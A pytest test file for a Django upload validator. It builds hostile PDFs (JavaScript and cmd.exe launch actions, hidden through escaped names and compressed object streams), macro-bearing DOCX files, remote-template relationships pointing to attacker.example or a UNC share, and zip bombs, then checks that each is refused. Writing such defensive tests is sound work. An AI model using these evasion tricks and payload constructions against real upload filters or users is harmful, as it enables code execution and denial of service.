"""Hostile files in accepted formats (issue 17, finding 6): PDF JavaScript, macros named in
another case, remote templates, zip bombs. Each file is built in memory."""

import copy
import io
import os
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from applications import uploads
from applications.uploads import check_upload
from tests.applications.test_uploads import build_docx, build_xlsx, upload_of
from tests.factories.applications import MINIMAL_PDF

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org'
    '/package/2006/content-types"/>'
)
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _pdf(*objects, trailer="/Root 1 0 R"):
    """A small PDF: a catalogue (object 1) with the given dictionary entries, then objects."""
    body = b"%PDF-1.7\n"
    for number, content in enumerate(objects, start=1):
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    return body + b"trailer\n<<" + trailer.encode() + b">>\n%%EOF\n"


PAGES = b"<</Type/Pages/Count 0/Kids[]>>"


def pdf_open_action_javascript():
    return _pdf(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>",
        PAGES,
        b"<</S/JavaScript/JS(app.alert\\(1\\))>>",
    )


def pdf_additional_action_javascript():
    return _pdf(
        b"<</Type/Catalog/Pages 2 0 R/AA<</WC 3 0 R>>>>",
        PAGES,
        b"<< /S /JavaScript /JS 4 0 R >>",
        b"<</Length 11>>stream\napp.alert()\nendstream",
    )


def pdf_escaped_names():
    """``/J#61vaScript`` and ``/J#53`` are /JavaScript and /JS to every reader."""
    return _pdf(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>>>",
        PAGES,
    )


def pdf_javascript_in_object_stream():
    """The action sits in a compressed object stream, invisible in the raw bytes."""
    inner = b"3 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    compressed = zlib.compress(inner)
    stream = (
        b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(compressed)
        + compressed
        + b"\nendstream"
    )
    return _pdf(b"<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>", PAGES, stream)


def pdf_with_pypdf_javascript():
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('hello');"),
        }
    )
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_launch_action():
    return _pdf(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(cmd.exe)>>>>",
        PAGES,
    )


@pytest.mark.parametrize(
    "builder",
    [
        pdf_open_action_javascript,
        pdf_additional_action_javascript,
        pdf_escaped_names,
        pdf_javascript_in_object_stream,
        pdf_with_pypdf_javascript,
        pdf_launch_action,
    ],
)
def test_check_upload_refuses_a_pdf_with_javascript_or_launch(builder):
    with pytest.raises(ValidationError) as refused:
        check_upload(upload_of(builder()))

    assert refused.value.code == "pdf_active_content"


def test_check_upload_keeps_a_pdf_that_opens_on_a_page_and_links_out():
    """/OpenAction to a page and a /URI link are ordinary; a stream whose compressed bytes
    happen to read ``/JS`` is no JavaScript."""
    content = _pdf(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction[4 0 R/Fit]>>",
        b"<</Type/Pages/Count 1/Kids[4 0 R]>>",
        b"<</S/URI/URI(https://euralens.example/)>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 5 0 R>>",
        b"<</Length 12/Filter/FlateDecode>>stream\n\x78\x9c/JS (x)\x00\x01\nendstream",
    )

    assert check_upload(upload_of(content)).extension == "pdf"
    assert check_upload(upload_of(MINIMAL_PDF)).extension == "pdf"


def _docx_with(extra):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr("word/document.xml", "<w:document><w:body><w:p/></w:body></w:document>")
        for name, data in extra.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "name", ["word/VBAPROJECT.BIN", "word/VbaProject.bin", "Word/vbaproject.bin"]
)
def test_check_upload_refuses_macros_named_in_another_case(name):
    with pytest.raises(ValidationError) as refused:
        check_upload(upload_of(_docx_with({name: b"\x00" * 16}), name="lettre.docx"))

    assert refused.value.code == "macros"


def _relationships(*relationships):
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(relationships)
        + "</Relationships>"
    )


@pytest.mark.parametrize(
    "relationship",
    [
        f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
        'Target="https://attacker.example/modele.dotm" TargetMode="External"/>',
        # Attributes in another order, single quotes, the mode in another case.
        f"<Relationship TargetMode='external' Target='\\\\attacker\\share\\t.dotm' "
        f"Type='{REL}/attachedTemplate' Id='rId1'/>",
    ],
)
def test_check_upload_refuses_a_docx_with_a_remote_template(relationship):
    content = _docx_with({"word/_rels/settings.xml.rels": _relationships(relationship)})

    with pytest.raises(ValidationError) as refused:
        check_upload(upload_of(content, name="lettre.docx"))

    assert refused.value.code == "remote_content"


def test_check_upload_refuses_a_docx_with_an_external_frame():
    frame = (
        f'<Relationship Id="rId9" Type="{REL}/frame" Target="http://attacker.example/" '
        'TargetMode="External"/>'
    )
    content = _docx_with({"word/_rels/document.xml.rels": _relationships(frame)})

    with pytest.raises(ValidationError) as refused:
        check_upload(upload_of(content, name="lettre.docx"))

    assert refused.value.code == "remote_content"


def test_check_upload_keeps_a_docx_with_a_hyperlink_and_a_local_template():
    relationships = _relationships(
        f'<Relationship Id="rId1" Type="{REL}/hyperlink" Target="https://euralens.example/" '
        'TargetMode="External"/>',
        f'<Relationship Id="rId2" Type="{REL}/styles" Target="styles.xml"/>',
    )
    content = _docx_with({"word/_rels/document.xml.rels": relationships})

    assert check_upload(upload_of(content, name="lettre.docx")).extension == "docx"
    assert check_upload(upload_of(build_docx(), name="lettre.docx")).extension == "docx"
    assert check_upload(upload_of(build_xlsx(), name="budget.xlsx")).extension == "xlsx"


# --- Zip bombs ---------------------------------------------------------------------------------


@pytest.fixture
def inflated_bytes(monkeypatch):
    """Counts every byte the checks inflate out of an archive."""
    counter = {"bytes": 0}
    original = zipfile.ZipExtFile.read

    def counting_read(self, n=-1):
        data = original(self, n)
        counter["bytes"] += len(data)
        return data

    monkeypatch.setattr(zipfile.ZipExtFile, "read", counting_read)
    return counter


def _docx_bomb(megabytes, *, members=1):
    """A DOCX whose document part(s) inflate to `megabytes` MB of zeros in total."""
    buffer = io.BytesIO()
    zeros = bytes(1024 * 1024)
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        for index in range(members):
            name = "word/document.xml" if index == 0 else f"word/media/part{index}.xml"
            with archive.open(name, "w", force_zip64=True) as entry:
                for _ in range(megabytes // members):
                    entry.write(zeros)
    return buffer.getvalue()


def test_check_upload_refuses_a_zip_bomb_of_300_megabytes(inflated_bytes):
    bomb = _docx_bomb(300)
    assert len(bomb) < 1024 * 1024  # it fits well under the upload limit

    with pytest.raises(ValidationError) as refused:
        check_upload(upload_of(bomb, name="lettre.docx"))

    assert refused.value.code == "archive_too_large"
    assert inflated_bytes["bytes"] <= uploads.ZIP_MAX_INFLATED


def test_inflating_stops_at_the_running_limit_whatever_the_archive_declares(
    monkeypatch, inflated_bytes
):
    """With the declared sizes and the ratio not believed, the running total alone stops
    the inflation a chunk past the limit."""
    monkeypatch.setattr(uploads, "ZIP_MAX_RATIO", 10**9)
    monkeypatch.setattr(uploads, "ZIP_MAX_INFLATED", 8 * 1024 * 1024)
    bomb = _docx_bomb(40, members=4)

    with pytest.raises(ValidationError) as refused:
        uploads._check_archive_is_bounded(_LyingArchive(bomb))

    assert refused.value.code == "archive_too_large"
    assert inflated_bytes["bytes"] <= 8 * 1024 * 1024 + 64 * 1024


class _LyingArchive(zipfile.ZipFile):
    """An archive whose listing declares one byte per member (the stream still inflates)."""

    def __init__(self, content):
        super().__init__(io.BytesIO(content))
        self._true_sizes = {info.filename: info.file_size for info in super().infolist()}

    def infolist(self):
        lying = []
        for info in super().infolist():
            lie = copy.copy(info)
            lie.file_size = 1
            lying.append(lie)
        return lying

    def open(self, member, *args, **kwargs):
        if isinstance(member, zipfile.ZipInfo):
            member = self.getinfo(member.filename)
        return super().open(member, *args, **kwargs)


def test_check_upload_refuses_an_archive_of_too_many_members():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        for index in range(uploads.ZIP_MAX_MEMBERS):
            archive.writestr(f"word/p{index}.xml", b"")

    with pytest.raises(ValidationError) as refused:
        check_upload(upload_of(buffer.getvalue(), name="lettre.docx"))

    assert refused.value.code == "archive_too_large"


def test_check_upload_refuses_a_member_with_an_abnormal_ratio():
    """Four megabytes of zeros compress about a thousand times: no document part does."""
    content = _docx_with({"word/media/fill.xml": bytes(4 * 1024 * 1024)})

    with pytest.raises(ValidationError) as refused:
        check_upload(upload_of(content, name="lettre.docx"))

    assert refused.value.code == "archive_too_large"


def test_a_random_member_of_normal_ratio_passes():
    content = _docx_with({"word/media/photo.bin": os.urandom(256 * 1024)})

    assert check_upload(upload_of(content, name="lettre.docx")).extension == "docx"
